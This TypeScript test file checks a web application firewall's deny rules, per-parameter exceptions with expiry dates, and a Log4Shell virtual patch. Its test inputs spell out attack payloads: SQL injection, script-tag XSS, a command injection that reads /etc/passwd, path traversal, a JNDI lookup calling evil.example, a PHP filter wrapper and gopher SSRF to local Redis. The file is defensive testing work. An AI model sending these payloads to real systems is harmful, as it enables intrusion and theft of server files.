import { describe, expect, it } from "vitest";
import { buildBundle, requestContext, type RequestInit } from "../../test-support/bundle-fixtures.js";
import { detectorConfigFor } from "./detector-config.js";
import { newDenyRules } from "./new-deny-rules.js";

type Bundle = ReturnType<typeof buildBundle>;
/** The middleware's config is the bundle plus its uninspected-content setting, as compile-route passes it. */
const denyRulesFor = (bundle: Bundle, options: Parameters<typeof newDenyRules>[1]) =>
  newDenyRules({ ...bundle, uninspected: bundle.limits.uninspected }, options);

const exceptionApp = {
  exceptions: [
    {
      id: "search-free-text",
      family: "sqli",
      part: "parameter",
      name: "q",
      conditions: { paths: ["/search"], methods: ["GET"] },
      justification: "Support staff search by free text that routinely contains SQL keywords.",
      expires: "2026-12-31",
    },
    {
      id: "legacy-header",
      ruleId: "xss.script-tag",
      part: "header",
      name: "X-Legacy-Markup",
      conditions: { paths: ["/legacy/**"] },
      justification: "The legacy client sends escaped markup in this header and cannot change.",
      expires: "2026-12-31",
    },
    {
      id: "jndi-attempt",
      family: "java",
      part: "parameter",
      name: "q",
      conditions: { paths: ["/search"] },
      justification: "Tries to except the java family, which the virtual patch must still cover.",
      expires: "2026-12-31",
    },
  ],
};

function verdictOf(middleware: ReturnType<typeof newDenyRules>, init: RequestInit) {
  const ctx = requestContext(init);
  const verdict = middleware.onBody!(ctx) as { status: number; ruleId: string; family: string } | null;
  return { verdict, logged: ctx.logged ?? [] };
}

describe("deny rules", () => {
  const baseline = denyRulesFor(buildBundle(), { maxInspectBytes: 1024 * 1024 });

  it.each<[string, RequestInit, string | null]>([
    ["benign query", { url: "/search?q=blue+shoes&page=2" }, null],
    ["benign JSON", { method: "POST", url: "/api/items", body: '{"name":"widget","qty":3}', headers: { "content-type": "application/json" } }, null],
    ["SQL injection in the query", { url: "/search?q=1%27%20OR%201%3D1--" }, "sqli"],
    ["XSS in a JSON value", { method: "POST", url: "/c", body: '{"c":"<script>alert(1)</script>"}', headers: { "content-type": "application/json" } }, "xss"],
    [
      "command injection in a form",
      { method: "POST", url: "/f", body: "host=127.0.0.1%3Bcat%20/etc/passwd", headers: { "content-type": "application/x-www-form-urlencoded" } },
      "rce",
    ],
    ["path traversal", { url: "/download?file=../../../../etc/passwd" }, "lfi"],
    ["Log4Shell in a header", { url: "/", headers: { "x-api-version": "${jndi:ldap://evil.example/a}" } }, "java"],
    ["PHP wrapper", { url: "/?page=php://filter/resource=index" }, "php"],
    ["SSRF to an internal host by name", { url: "/fetch?url=gopher://localhost:6379/_INFO" }, "ssrf"],
    ["scanner user agent", { url: "/", headers: { "user-agent": "sqlmap/1.7" } }, "scanner"],
    [
      "prototype pollution (engine family generic, policy family rce)",
      { method: "POST", url: "/", body: '{"__proto__":{"admin":true}}', headers: { "content-type": "application/json" } },
      "generic",
    ],
  ])("%s", (_name, init, family) => {
    const { verdict } = verdictOf(baseline, init);
    expect(verdict?.family ?? null).toBe(family);
    if (verdict) expect(verdict.status).toBe(403);
  });

  it("log-only families log and pass", () => {
    const middleware = denyRulesFor(buildBundle({ denyRules: { sqli: { level: "standard", mode: "log-only" } } }), { maxInspectBytes: 1 << 20 });
    const { verdict, logged } = verdictOf(middleware, { url: "/s?q=1%27%20OR%201%3D1--" });
    expect(verdict).toBeNull();
    expect(logged.length).toBeGreaterThan(0);
    expect(logged[0]).toMatchObject({ family: "sqli", action: "logged" });
  });

  describe("exceptions", () => {
    const bundle = buildBundle({ exceptionPolicy: { maxLifetimeDays: 365 } }, exceptionApp, new Date("2026-06-01T00:00:00Z"));
    const at = (iso: string) => denyRulesFor(bundle, { maxInspectBytes: 1 << 20, now: () => Date.parse(iso) });

    it("honours a family exception on its parameter, path and method only", () => {
      const m = at("2026-06-01T00:00:00Z");
      expect(verdictOf(m, { url: "/search?q=1%27%20OR%201%3D1--" }).verdict).toBeNull();
      expect(verdictOf(m, { url: "/search?other=1%27%20OR%201%3D1--" }).verdict).toMatchObject({ family: "sqli" });
      expect(verdictOf(m, { url: "/search/x?q=1%27%20OR%201%3D1--" }).verdict).toMatchObject({ family: "sqli" });
      expect(verdictOf(m, { method: "POST", url: "/search?q=1%27%20OR%201%3D1--" }).verdict).toMatchObject({ family: "sqli" });
    });

    it("honours a rule exception (policy id xss-script-tag = engine xss.script-tag) on a header, names case-insensitive", () => {
      const m = at("2026-06-01T00:00:00Z");
      expect(verdictOf(m, { url: "/legacy/page", headers: { "X-LEGACY-MARKUP": "<script>x</script>" } }).verdict).toBeNull();
      expect(verdictOf(m, { url: "/other", headers: { "X-Legacy-Markup": "<script>x</script>" } }).verdict).toMatchObject({ family: "xss" });
    });

    it("stops honouring an exception at its expiry instant by the proxy's clock, without a reload", () => {
      expect(bundle.exceptions.find((e) => e.id === "search-free-text")!.expiresAt).toBe("2027-01-01T00:00:00.000Z");
      expect(verdictOf(at("2026-12-31T23:59:59.999Z"), { url: "/search?q=1%27%20OR%201%3D1--" }).verdict).toBeNull();
      expect(verdictOf(at("2027-01-01T00:00:00.000Z"), { url: "/search?q=1%27%20OR%201%3D1--" }).verdict).toMatchObject({ family: "sqli" });
    });

    it("the Log4Shell virtual patch blocks JNDI lookups even where an exception covers java", () => {
      expect(verdictOf(at("2026-06-01T00:00:00Z"), { url: "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D" }).verdict).toMatchObject({
        ruleId: "java.jndi-lookup",
      });
    });

    it("refuses a bundle whose exception names a rule the engine does not have", () => {
      // The spec refuses such a policy; a hand-edited bundle must not reach the engine either.
      const bundle = buildBundle({ exceptionPolicy: { maxLifetimeDays: 365 } }, exceptionApp, new Date("2026-06-01T00:00:00Z"));
      const edited = { ...bundle, exceptions: bundle.exceptions.map((e) => (e.ruleId ? { ...e, ruleId: "sqli.942100" } : e)) };
      expect(() => denyRulesFor(edited, { maxInspectBytes: 1 << 20 })).toThrow(/no rule "sqli.942100"/);
    });
  });

  it("configures generic with rce's setting and session with xss's", () => {
    const config = detectorConfigFor(
      buildBundle({ denyRules: { rce: { level: "strict", mode: "block" }, xss: { level: "basic", mode: "log-only" } } }).denyRules,
    );
    expect(config.families.generic).toEqual({ level: "strict", mode: "block" });
    expect(config.families.session).toEqual({ level: "basic", mode: "log-only" });
  });
});
